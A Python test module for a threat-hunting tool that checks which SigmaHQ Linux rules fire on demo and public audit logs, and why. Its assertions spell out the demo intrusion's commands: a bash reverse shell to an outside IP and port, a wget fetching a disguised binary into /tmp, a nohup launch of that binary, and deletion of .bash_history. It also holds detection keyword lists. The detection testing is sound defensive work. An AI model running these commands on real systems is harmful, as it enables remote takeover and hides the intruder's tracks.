"""Which shipped SigmaHQ Linux rules fire, on what, and why; and what must not fire (issue 15).

Every rule that fires is named by its id, and *why* it fires is checked on the raw file without
the engine: for audit logs with auditd's own ``ausearch -i`` (it decodes hex and chunked EXECVE
arguments; the program is the ``exe=`` of the event's SYSCALL record), for syslog with a regular
expression over the lines (the "grep"). The rule's condition is quoted in a comment beside each
check, and the number of matching events found that way must equal the finding's occurrences.

Benign samples (decided from each folder's SOURCE.md): the demo's db01 and APP02 (the story's
uninvolved hosts); audit-userspace test*.log (auditd's own parser test logs: logins, builds);
beats-auditd audit-rhel6 (a nagios sudo), audit-cent7-node (daemon start), execve-hex-arg,
useradd (an admin adding user charlie) and test.log (single records from several hosts);
go-libaudit (real distributions' audit logs); laurel's records and traces except the perl
reverse shell; plaso's audit_enriched.log and syslog framings; msticpy syslog_data.csv (a
squid proxy). NOT benign: the demo's web01 (the intrusion), otrf-linux-atomic-auditd (ATT&CK
atomic tests), laurel record-perl-reverse-shell, msticpy linux_events.csv (MSTICAlertsLxVM2, a
VM run to raise alerts), loghub and beats-secure-rhel7 (brute force), wazuh (attack examples).

No rule fires at severity high on the benign samples, with one exception that is the rule's
own behaviour, not our mapping: "Linux Keylogging with Pam.d" (49aae26c, level high) fires on
*any* ``type=TTY``/``USER_TTY`` record, and such records exist only where pam_tty_audit is
switched on, which is what the rule reports. go-libaudit's audit-rhel7.log and beats' test.log
hold the same RHEL 7 host's TTY records, whose keystrokes are an admin enabling pam_tty_audit
(``vim /etc/pam.d/password-auth-ac``, ``man pam_tty_audit``): the rule's listed false positive
"Administrative work". The test pins that exactly those records match.

A low/informational rule with a weak condition, also the rule's own: "System Shutdown/Reboot -
Linux" (4cb57c2f) matches keyword ``init`` and keyword ``0`` or ``6`` anywhere in an EXECVE
record, so a 216-argument m4 call with ``--trace=AM_INIT_AUTOMAKE`` in audit-userspace test4.log
fires it (Zircolite's SQL for the rule behaves the same: keywords are substrings of the line).
"""

from __future__ import annotations

import ast
import csv
import os
import re
import shutil
import subprocess
from datetime import timedelta
from pathlib import Path

import pytest

from hunting.demo.scenario import demo_log_paths
from hunting.detections.model import Finding
from hunting.sigma.engine import SigmaRun, sigma_run
from hunting.sigma.rules import SIGMAHQ_DIR, SIGMAHQ_URL, RuleSet, load_rules
from hunting.sources.local import LocalSource
from hunting.timerange import TimeRange
from tests.conftest import missing

# rule ids (SigmaHQ, files under hunting/rules/sigma/sigmahq)
HISTORY_DELETE = "1182f3b3-e716-4efa-99ab-d2685d04360f"  # History File Deletion (high)
NOHUP_TMP = "457df417-8b9d-4912-85f3-9dbda39c3645"  # Suspicious Nohup Execution (high)
WGET_TMP = (
    "cf610c15-ed71-46e1-bdf8-2bd1a99de6c4"  # Download File To Potentially Suspicious Directory Via Wget
)
EXEC_TMP = "312b42b1-bded-4441-8b58-163a3af58775"  # Potentially Suspicious Execution From Tmp Folder
BASE64_SHELL = "ba592c6d-6888-43c3-b8c6-689b8fe47337"  # Linux Base64 Encoded Pipe to Shell
CLEAR_LOGS = "80915f59-9b56-4616-9de0-fd0dea6c12fe"  # Linux Logs Clearing Attempts
UFW_DISABLE = "84c9e83c-599a-458a-a0cb-0ecce44e807a"  # UFW Disable Attempt
BASH_I = "6104e693-a7d6-4891-86cb-49a258523559"  # Bash Interactive Shell
CURL = "ea34fb97-e2c4-4afb-810f-785e4459b194"  # Curl Usage on Linux
NET_DISCOVERY = "e7bd1cfa-b446-4c88-8afb-403bcd79e3fa"  # System Network Discovery - Linux
HISTFILE_OPS = "eae8ce9f-bde9-47a6-8e79-f20d18419910"  # Suspicious History File Operations - Linux (auditd)
CREATE_ACCOUNT = "759d0d51-bc99-4b5e-9add-8f5b2c8e7512"  # Creation Of An User Account (auditd)
USER_DISCOVERY = "9a0d8ca0-2385-4020-b6c6-cb6153ca56f3"  # System Owner or User Discovery - Linux (auditd)
LOCAL_ACCOUNTS = "b45e3d6f-42c6-47d8-a478-df6bd6cf534c"  # Local System Accounts Discovery - Linux
CRONTAB = "af202fd3-7bff-4212-a25a-fb34606cfcbe"  # Modifying Crontab (builtin cron)
SSHD_ERROR = "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"  # Suspicious OpenSSH Daemon Error (builtin sshd)
SUSP_LOG = "f64b6e9a-5d9d-48a5-8289-e1dd2b3876e1"  # Suspicious Log Entries (builtin, any linux log)
BINARY_PADDING = "c52a914f-3d8b-4b2a-bb75-b3991e75f8ba"  # Binary Padding - Linux (high)
DD_OVERWRITE = "37222991-11e9-4b6d-8bdf-60fbe48f753e"  # Overwriting the File with Dev Zero or Null
ARP = "11063ec2-de63-4153-935e-b1a8b9e616f1"  # Linux Remote System Discovery
PERL_SHELL = "259df6bc-003f-4306-9f54-4ff1a08fa38e"  # Potential Perl Reverse Shell Execution (high)
KEYLOGGING = "49aae26c-450e-448b-911d-b3c13d178dfc"  # Linux Keylogging with Pam.d (high)
SHUTDOWN = "4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f"  # System Shutdown/Reboot - Linux (informational)


@pytest.fixture(scope="module")
def shipped() -> RuleSet:
    return load_rules([SIGMAHQ_DIR])  # the snapshot alone: no HUNTING_SIGMA_DIRS folders


def _run(paths: list[Path], rules: RuleSet) -> dict[str, SigmaRun]:
    src = LocalSource.from_paths(paths)
    out = {}
    for _, row in src.hosts().iterrows():
        tr = TimeRange(row.FirstSeen - timedelta(seconds=1), row.LastSeen + timedelta(seconds=1))
        out[str(row.Computer)] = sigma_run(src, str(row.Computer), tr, rules)
    return out


def _fired(run: SigmaRun) -> dict[str, Finding]:
    return {f.rule_id.removeprefix("sigma:"): f for f in run.findings}


def _high(runs: dict[str, SigmaRun]) -> set[str]:
    return {rid for run in runs.values() for rid, f in _fired(run).items() if f.severity == "high"}


def _execs(path: Path) -> list[tuple[str, str]]:
    """(program, command line) of every execve event, as auditd's ``ausearch -i`` decodes them.

    The program is the SYSCALL record's ``exe=``; the command line joins a0, a1, ... (chunked
    ``aN[i]=`` values in chunk order), as ausearch prints them decoded."""
    if shutil.which("ausearch") is None:
        missing("ausearch (Debian package auditd) is not installed")
    out = subprocess.run(
        ["ausearch", "--input", str(path), "-i", "-sc", "execve"],
        capture_output=True, text=True, check=False, env={**os.environ, "TZ": "UTC"},
    ).stdout  # fmt: skip
    marker = re.compile(r"(?:^|\s)(argc|a\d+_len|a(\d+)(?:\[(\d+)\])?)=")
    events = []
    for event in out.split("\n----\n"):
        exe = re.search(r"^type=SYSCALL .* exe=(\S+)", event, re.MULTILINE)
        args: dict[int, dict[int, str]] = {}
        for line in event.splitlines():
            if not line.startswith("type=EXECVE "):
                continue
            body = line.split(" : ", 1)[1]
            marks = list(marker.finditer(body))
            for m, nxt in zip(marks, [*marks[1:], None], strict=True):
                if m.group(2) is None:
                    continue  # argc=, aN_len=
                value = body[m.end() : nxt.start() if nxt else len(body)]
                value = value[:-1] if nxt is None and value.endswith(" ") else value
                args.setdefault(int(m.group(2)), {})[int(m.group(3) or 0)] = value
        if exe and args:
            cmd = " ".join("".join(args[n][i] for i in sorted(args[n])) for n in sorted(args))
            events.append((exe.group(1), cmd))
    return events


def _grep(path: Path, pattern: str, flags: int = 0) -> list[str]:
    rx = re.compile(pattern, flags)
    return [ln for ln in path.read_text(errors="replace").splitlines() if rx.search(ln)]


def _events(lines: list[str]) -> set[str]:
    """The audit event ids (``msg=audit(TIME:SERIAL)``) of raw record lines."""
    return {m.group(1) for ln in lines if (m := re.search(r"msg=audit\(([\d.:]+)\)", ln))}


# --- the demo's intrusion (web01) and its benign hosts ----------------------------------------


@pytest.fixture(scope="module")
def demo_runs(shipped: RuleSet) -> dict[str, SigmaRun]:
    return _run(demo_log_paths(), shipped)


@pytest.fixture(scope="module")
def web01() -> Path:
    return next(p for p in demo_log_paths() if p.name == "web01")


def test_demo_intrusion_fires_these_rules_for_these_reasons(
    demo_runs: dict[str, SigmaRun], web01: Path
) -> None:
    fired = _fired(demo_runs["web01"])
    execs = _execs(web01 / "audit" / "audit.log")
    assert len(execs) > 1000  # ausearch decoded the whole log, not a handful

    def count(pred) -> int:  # type: ignore[no-untyped-def]
        return sum(1 for exe, cmd in execs if pred(exe, cmd))

    expected = {
        # History File Deletion: Image|endswith /rm|/unlink|/shred and CommandLine|contains /.bash_history
        HISTORY_DELETE: count(lambda e, c: e.endswith("/rm") and "/.bash_history" in c),
        # Suspicious Nohup Execution: Image|endswith /nohup and CommandLine|contains /tmp/
        NOHUP_TMP: count(lambda e, c: e.endswith("/nohup") and "/tmp/" in c),
        # Wget to a suspicious folder: Image|endswith /wget, CommandLine|re \s-O\s, contains /tmp/
        WGET_TMP: count(lambda e, c: e.endswith("/wget") and re.search(r"\s-O\s", c) and "/tmp/" in c),
        # Execution from /tmp: Image|startswith /tmp/ (not .../usr/bin/nextcloud)
        EXEC_TMP: count(lambda e, c: e.startswith("/tmp/")),
        # Base64 pipe to shell: CommandLine contains "base64 " and ends with "|bash" (or | sh ...)
        BASE64_SHELL: count(lambda e, c: "base64 " in c and c.endswith(("|bash", "| bash", "| sh", " |sh"))),
        # Logs clearing: Image|endswith /rm... and CommandLine|contains /var/log (not sysstat/dmesg)
        CLEAR_LOGS: count(lambda e, c: e.endswith("/rm") and "/var/log" in c),
        # UFW disable: CommandLine|contains|all "ufw " and "disable" (ufw is a python3 script)
        UFW_DISABLE: count(lambda e, c: "ufw " in c.lower() and "disable" in c.lower()),
        # Bash Interactive Shell: Image|endswith /bash and CommandLine|contains " -i "
        BASH_I: count(lambda e, c: e.endswith("/bash") and " -i " in c),
        # Curl Usage: Image|endswith /curl (the cron-driven miner updater runs it every 10 min)
        CURL: count(lambda e, c: e.endswith("/curl")),
        # System Network Discovery: Image|endswith /iptables, /ip, /ss, /netstat, ... (iptables -F/-X)
        NET_DISCOVERY: count(
            lambda e, c: (
                e.endswith(
                    (
                        "/firewall-cmd",
                        "/ufw",
                        "/iptables",
                        "/netstat",
                        "/ss",
                        "/ip",
                        "/ifconfig",
                        "/systemd-resolve",
                        "/route",
                    )
                )
                or "/etc/resolv.conf" in c
            )
        ),
    }
    # the attacker's own commands, spelled out (ausearch output, not the engine's parser)
    assert ("/usr/bin/rm", "rm -f /root/.bash_history") in execs
    assert ("/usr/bin/nohup", "nohup /tmp/.x/kworkerd -c 45.95.147.236:443") in execs
    assert ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/45.95.147.236/4444 0>&1") in execs
    assert ("/usr/bin/wget", "wget http://linux-kworker-sync.top/x -O /tmp/.x/kworkerd") in execs
    audit = web01 / "audit" / "audit.log"
    # Suspicious History File Operations (auditd): type EXECVE and keyword .bash_history, ...
    # anywhere in the record (the raw line: keywords match the record text, hex stays hex)
    keywords = r"\.bash_history|\.zsh_history|\.zhistory|\.history|\.sh_history|fish_history"
    expected[HISTFILE_OPS] = len(_events(_grep(audit, rf"^type=EXECVE .*({keywords})", re.IGNORECASE)))
    # Creation Of An User Account: a type=ADD_USER record, or a SYSCALL record of exe .../useradd
    expected[CREATE_ACCOUNT] = len(
        _events(_grep(audit, r'^type=ADD_USER |^type=SYSCALL .*exe="?[^ "]*/useradd"?( |$)'))
    )
    # Modifying Crontab (builtin cron): keyword REPLACE in a line of program cron/crond/crontab;
    # web01's syslog is RFC 5424: "<PRI>1 TIME web01 crontab PID - - (root) REPLACE (root)"
    expected[CRONTAB] = len(
        _grep(web01 / "syslog", r"^<\d+>1 \S+ web01 (cron|crond|CRON|crontab) \S+ .*REPLACE")
    )
    assert all(n >= 1 for n in expected.values()), expected
    assert {rid: fired[rid].occurrences for rid in expected if rid in fired} == expected
    # the two high ones of the intrusion, and no other high rule on web01
    assert _high({"web01": demo_runs["web01"]}) == {HISTORY_DELETE, NOHUP_TMP}
    f = fired[HISTORY_DELETE]
    assert f.title == "Sigma: History File Deletion" and f.mitre == ("T1565.001",)  # rule tags
    assert f.links[0].page == SIGMAHQ_URL + "process_creation/proc_creation_lnx_susp_history_delete.yml"
    assert all(".bash_history" in e for e in f.evidence)


def test_benign_demo_hosts_fire_no_high_rule(demo_runs: dict[str, SigmaRun]) -> None:
    assert set(demo_runs) == {"web01", "db01", "APP02"}
    for host in ("db01", "APP02"):
        assert _high({host: demo_runs[host]}) == set(), host
    # db01 does fire low discovery rules, on alice's routine `w` and `uptime` (ausearch shows them)
    db01 = _fired(demo_runs["db01"])
    assert USER_DISCOVERY in db01 and {f.severity for f in db01.values()} == {"low"}


# --- real samples where rules should fire ----------------------------------------------------


def test_otrf_atomic_tests(shared_data: Path, shipped: RuleSet) -> None:
    d = shared_data / "otrf-linux-atomic-auditd"
    dd = _execs(d / "sh_binary_padding_dd_2020-11-10081941.log")
    arp = _execs(d / "sh_arp_cache_2020-11-10074812.log")
    # Binary Padding (high): EXECVE with keywords "dd" and "if=" and not "of=";
    # Overwriting with Dev Zero: a0|contains dd and a1|contains if=/dev/zero
    assert dd == [("/bin/dd", "dd if=/dev/zero bs=1 count=1")]
    # Linux Remote System Discovery: Image|endswith /arp and CommandLine|contains -a
    assert ("/usr/sbin/arp", "arp -a") in arp
    fired = _fired(_run([d], shipped)["otrf-linux-atomic-auditd"])
    assert set(fired) == {BINARY_PADDING, DD_OVERWRITE, ARP}
    assert fired[BINARY_PADDING].severity == "high" and fired[ARP].occurrences == 1


def test_laurel_perl_reverse_shell(shared_data: Path, shipped: RuleSet) -> None:
    path = shared_data / "laurel" / "testdata" / "record-perl-reverse-shell.txt"
    # Perl reverse shell (high): Image|endswith /perl, CommandLine ' -e ', and Socket+connect+open+exec
    [cmd] = [c for e, c in _execs(path) if e.endswith("/perl")]
    assert " -e " in cmd and all(w in cmd for w in ("Socket", "connect", "open", "exec"))
    [run] = _run([path], shipped).values()
    assert set(_fired(run)) == {PERL_SHELL} and _fired(run)[PERL_SHELL].severity == "high"


def test_account_creation_on_real_hosts(shared_data: Path, shipped: RuleSet) -> None:
    # Creation Of An User Account: type=ADD_USER, or SYSCALL with exe|endswith /useradd
    for path, events in (
        (shared_data / "beats-auditd" / "useradd.log", 1),  # charlie on ubuntu-bionic (SOURCE.md)
        (shared_data / "go-libaudit" / "auparse" / "testdata" / "audit-rhel7.log", 1),
        (shared_data / "plaso" / "audit_enriched.log", 1),
    ):
        lines = _grep(path, r'^(node=\S+ )?type=ADD_USER |^type=SYSCALL .*exe="?[^ "]*/useradd"?( |$)')
        assert len(_events(lines)) == events, path
        [run] = _run([path], shipped).values()
        assert _fired(run)[CREATE_ACCOUNT].occurrences == events, path


def test_plaso_enriched_discovery(shared_data: Path, shipped: RuleSet) -> None:
    path = shared_data / "plaso" / "audit_enriched.log"
    # System Owner or User Discovery (auditd): type EXECVE, a0 in hostname/id/last/uname/users/w/who/whoami
    assert len(_grep(path, r'^type=EXECVE .* a0="(hostname|id|last|uname|users|w|who|whoami)"( |$)')) == 1
    # Local System Accounts Discovery: Image|endswith /id (selection_4)
    assert [c for e, c in _execs(path) if e.endswith("/id")] == ["id"]
    [run] = _run([path], shipped).values()
    assert set(_fired(run)) == {CREATE_ACCOUNT, USER_DISCOVERY, LOCAL_ACCOUNTS}


def test_msticpy_sentinel_audit_network_discovery(shared_data: Path, shipped: RuleSet) -> None:
    path = shared_data / "msticpy" / "linux_events.csv"
    # System Network Discovery: Image|endswith /iptables (among others). The CSV keeps each event's
    # records as a Python literal; decoded here by hand: SYSCALL exe= per event.
    images = (
        "/firewall-cmd", "/ufw", "/iptables", "/netstat", "/ss", "/ip", "/ifconfig", "/systemd-resolve", "/route",
    )  # fmt: skip
    hits = 0
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            records = ast.literal_eval(row["AuditdMessage"])
            exe = [kv[4:].strip('"') for r in records for kv in r.get("SYSCALL", []) if kv.startswith("exe=")]
            hits += bool(exe) and exe[0].endswith(images)
    assert hits == 3
    [run] = _run([path], shipped).values()
    fired = _fired(run)
    assert set(fired) == {NET_DISCOVERY} and fired[NET_DISCOVERY].occurrences == hits


def test_wazuh_sshd_and_syslog_lines(shared_data: Path, shipped: RuleSet, tmp_path: Path) -> None:
    """Wazuh's ruleset test lines (each a real-format log line) written as plain log files."""
    for name in ("sshd", "syslog"):
        lines = [
            m.group(1)
            for ln in (shared_data / "wazuh" / f"{name}.ini").read_text().splitlines()
            if (m := re.match(r"log \d+ (?:pass|fail) = (.*)$", ln))
        ]
        (tmp_path / name).mkdir()
        (tmp_path / name / "syslog").write_text("\n".join(lines) + "\n")
    # Suspicious OpenSSH Daemon Error (builtin sshd, ProcessName sshd): one of its keywords
    sshd_kw = (
        "unexpected internal error|unknown or unsupported key type|invalid certificate signing key|"
        "invalid elliptic curve value|incorrect signature|error in libcrypto|unexpected bytes remain "
        "after decoding|fatal: buffer_get_string: bad string|Local: crc32 compensation attack|"
        "bad client public DH value|Corrupted MAC on input"
    )
    sshd_hits = _grep(tmp_path / "sshd" / "syslog", rf" sshd\[\d+\]: .*({sshd_kw})", re.IGNORECASE)
    assert len(sshd_hits) == 4  # 2 "bad client public DH value", 2 "Corrupted MAC on input"
    runs = _run([tmp_path / "sshd"], shipped)
    assert sum(_fired(r)[SSHD_ERROR].occurrences for r in runs.values() if SSHD_ERROR in _fired(r)) == 4
    assert _high(runs) == set()
    # Suspicious Log Entries (any linux log): 'entered promiscuous mode', 'Deactivating service', ...
    log_kw = "entered promiscuous mode|Deactivating service|Oversized packet received from|imuxsock begins to drop messages"
    assert len(_grep(tmp_path / "syslog" / "syslog", log_kw, re.IGNORECASE)) == 2
    runs = _run([tmp_path / "syslog"], shipped)
    assert sum(_fired(r)[SUSP_LOG].occurrences for r in runs.values() if SUSP_LOG in _fired(r)) == 2


def test_brute_force_logs_fire_no_sigmahq_rule(shared_data: Path, shipped: RuleSet) -> None:
    """SigmaHQ's builtin sshd rule is about protocol errors, not failed passwords: on the two
    brute-force logs none of its keywords occurs (grep), so nothing fires (the built-in
    detections report the brute force)."""
    for path in (
        shared_data / "loghub" / "OpenSSH_2k.log",
        shared_data / "beats-secure-rhel7" / "secure-rhel7.log",
    ):
        assert not _grep(path, r"Corrupted MAC|bad client public DH|crc32 compensation|error in libcrypto")
        assert [f for run in _run([path], shipped).values() for f in run.findings] == [], path


# --- benign samples: nothing at severity high --------------------------------------------------


def _benign(d: Path) -> list[Path]:
    laurel = sorted((d / "laurel" / "testdata").glob("*.txt"))
    return [
        *sorted((d / "audit-userspace").glob("test*.log")),
        *(
            d / "beats-auditd" / n
            for n in (
                "audit-rhel6.log",
                "audit-cent7-node.log",
                "execve-hex-arg.log",
                "useradd.log",
                "test.log",
            )
        ),
        *sorted((d / "go-libaudit" / "testdata").glob("*.log")),
        *sorted((d / "go-libaudit" / "auparse" / "testdata").glob("*.log")),
        *(p for p in laurel if p.name != "record-perl-reverse-shell.txt"),
        d / "plaso" / "audit_enriched.log",
        *sorted(p for p in (d / "plaso" / "syslog").iterdir() if p.is_file()),
        d / "msticpy" / "syslog_data.csv",
    ]


def test_benign_samples_fire_no_high_rule_but_tty_auditing(shared_data: Path, shipped: RuleSet) -> None:
    paths = _benign(shared_data)
    assert len(paths) >= 40
    tty_files = {}
    for path in paths:
        runs = _run([path], shipped)
        high = _high(runs)
        if path.name in ("audit-rhel7.log", "test.log") and high:
            tty_files[path] = sum(
                _fired(r)[KEYLOGGING].occurrences for r in runs.values() if KEYLOGGING in _fired(r)
            )
            high -= {KEYLOGGING}  # the rule's own behaviour, see the module docstring
        assert high == set(), path
    # ...and the keylogging rule matched exactly the TTY/USER_TTY records (grep counts them)
    go, beats = (
        shared_data / "go-libaudit/auparse/testdata/audit-rhel7.log",
        shared_data / "beats-auditd/test.log",
    )
    assert tty_files == {
        go: len(_events(_grep(go, r"^type=(TTY|USER_TTY) "))),
        beats: len(_events(_grep(beats, r"^type=(TTY|USER_TTY) "))),
    }
    assert tty_files[go] == 3 and tty_files[beats] == 1
    # the informational shutdown rule on an m4 call: keyword init (AM_INIT_AUTOMAKE) and 0/6
    test4 = shared_data / "audit-userspace" / "test4.log"
    assert not _grep(test4, r"shutdown|reboot|halt|poweroff", re.IGNORECASE)
    assert len(_grep(test4, r"^type=EXECVE .*init.*[06]|^type=EXECVE .*[06].*init", re.IGNORECASE)) == 1
    [run] = _run([test4], shipped).values()
    assert set(_fired(run)) == {SHUTDOWN} and _fired(run)[SHUTDOWN].severity == "low"
